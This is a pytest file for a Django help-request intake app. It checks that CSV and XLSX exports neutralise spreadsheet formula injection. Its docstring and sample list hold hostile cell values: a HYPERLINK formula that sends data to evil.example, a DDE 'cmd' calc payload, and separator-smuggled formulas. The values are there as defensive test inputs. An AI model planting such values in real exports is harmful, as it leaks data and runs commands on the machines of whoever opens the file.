"""An exported value is never run as a formula when the CSV is opened in a spreadsheet.

Locality names are typed by staff and usernames may start with "+", "-" or "@". A cell
starting with = + - @, a tab or a carriage return is a formula to Excel and LibreOffice:
`=HYPERLINK("http://evil.example/?leak="&A2,"Kliknij")` would send the row's reference
away on a click. In the CSV such a cell starts with a single quote (OWASP's advice), so
it shows as the text it is; the XLSX stores every value as text already.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from intake.tests.factories import HelpRequestFactory, LocalityFactory, make_social_worker

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Kliknij")'
HOSTILE_LOCALITIES = [
    HYPERLINK,
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tSUM(A1)",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def export(client, file_format):
    response = client.get(reverse("requests:index"), {"export": file_format})
    assert response.status_code == 200
    return content(response)


@pytest.fixture
def hostile_rows(coordinator):
    # A username may hold "+", "-" and "@": the worker column is the user's own name.
    worker = make_social_worker("@pracownik")
    for name in HOSTILE_LOCALITIES:
        HelpRequestFactory(locality=LocalityFactory(name=name), assigned_to=worker)
    HelpRequestFactory(locality=LocalityFactory(name="Dębnik"))
    return worker


def test_csv_cells_never_start_a_formula(client, coordinator, hostile_rows):
    client.force_login(coordinator)
    rows = list(csv.DictReader(io.StringIO(export(client, "csv").decode("utf-8"), newline="")))
    assert len(rows) == len(HOSTILE_LOCALITIES) + 1
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_START), (column, value)
    localities = {row["Miejscowość"] for row in rows}
    # The hostile text is kept whole after the quote, so staff still see what was typed.
    assert localities == {"'" + name for name in HOSTILE_LOCALITIES} | {"Dębnik"}
    assert {row["Pracownik socjalny"] for row in rows} == {"'@pracownik", ""}
    # Ordinary values are untouched: references, dates.
    references = {row["Numer zgłoszenia"] for row in rows}
    assert all(reference[0].isalnum() for reference in references)


def test_a_separator_inside_a_value_cannot_start_a_formula_cell_either(client, coordinator):
    # A Polish Excel splits a CSV on ";" too: the part after it would be a cell of its own.
    HelpRequestFactory(locality=LocalityFactory(name="Dębnik;=1+1;@A1\t-2"))
    client.force_login(coordinator)
    text = export(client, "csv").decode("utf-8")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["Miejscowość"] == "Dębnik;'=1+1;'@A1\t'-2"
    for line in text.splitlines():
        for piece in line.replace(",", ";").replace("\t", ";").split(";"):
            assert not piece.lstrip('"').startswith(FORMULA_START), piece


def test_xlsx_keeps_the_values_as_text_not_formulas(client, coordinator, hostile_rows):
    client.force_login(coordinator)
    data = export(client, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None}
    # Stored as they are, typed as strings: nothing is added, nothing is a formula.
    for name in HOSTILE_LOCALITIES:
        # (XML keeps a carriage return as a line feed.)
        assert cells[name.replace("\r", "\n")] == "s"
    assert cells["@pracownik"] == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
